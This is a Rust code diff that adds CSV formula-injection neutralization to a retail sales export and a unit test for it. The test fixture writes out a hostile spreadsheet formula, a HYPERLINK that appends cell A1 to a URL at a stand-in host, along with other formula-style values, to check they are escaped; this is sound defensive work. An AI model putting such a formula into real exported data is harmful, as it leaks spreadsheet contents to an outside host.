@@ -30,14 +30,30 @@ pub struct DailyRow {
 pub const CSV_HEADER: &str = "date,retailer_id,store_id,store_name,product_id,sku,gtin,product_name,units_sold,units_returned,weight_sold_mg,net_sales_minor,tax_minor,refunds_minor,closing_units";
 
 /// `header`, then one line per row in field order (quoted only where needed). Rows are plain
-/// structs of strings and integers: serializing them cannot fail.
+/// structs of strings and integers: serializing them cannot fail. A text cell a spreadsheet
+/// would run as a formula (starting with `=`, `+`, `-`, `@`, tab or carriage return, and not a
+/// plain number) gets a leading `'` (OWASP's CSV injection advice); figures are untouched.
 pub(crate) fn rows_to_csv<T: Serialize>(header: &str, rows: &[T]) -> String {
     let mut w = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
     for r in rows {
         let _ = w.serialize(r);
     }
-    let body = w.into_inner().map(|b| String::from_utf8(b).unwrap_or_default()).unwrap_or_default();
+    let raw = w.into_inner().unwrap_or_default();
+    let mut out = csv::WriterBuilder::new().has_headers(false).from_writer(Vec::new());
+    for record in csv::ReaderBuilder::new().has_headers(false).from_reader(raw.as_slice()).records().flatten() {
+        let _ = out.write_record(record.iter().map(neutralized));
+    }
+    let body = out.into_inner().map(|b| String::from_utf8(b).unwrap_or_default()).unwrap_or_default();
     format!("{header}\n{body}")
+}
+
+fn neutralized(cell: &str) -> String {
+    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && cell.parse::<f64>().is_err() {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
 }
 
 pub fn to_csv(rows: &[DailyRow]) -> String {
@@ -416,5 +432,17 @@ mod tests {
         let text = to_csv(std::slice::from_ref(&row));
         assert_eq!(text.lines().nth(1), Some("2026-11-22,acme,s1,\"Queen St, \"\"East\"\"\",p1,FLW-1,,Blue Dream 1g,2,0,2000,2598,338,0,18"));
         assert_eq!(to_csv(&[]), format!("{CSV_HEADER}\n"), "the header even with no rows");
+
+        // A name that a spreadsheet would run as a formula is neutralized; numbers are not.
+        let mut evil = row.clone();
+        evil.product_name = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")".into();
+        evil.store_name = "@SUM(1+1)".into();
+        evil.sku = "-2+3".into();
+        evil.units_returned = -1;
+        let text = to_csv(&[evil]);
+        let mut r = csv::ReaderBuilder::new().has_headers(true).from_reader(text.as_bytes());
+        let rec = r.records().next().unwrap().unwrap();
+        assert_eq!(&rec[7], "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")");
+        assert_eq!((&rec[3], &rec[5], &rec[9]), ("'@SUM(1+1)", "'-2+3", "-1"));
     }
 }
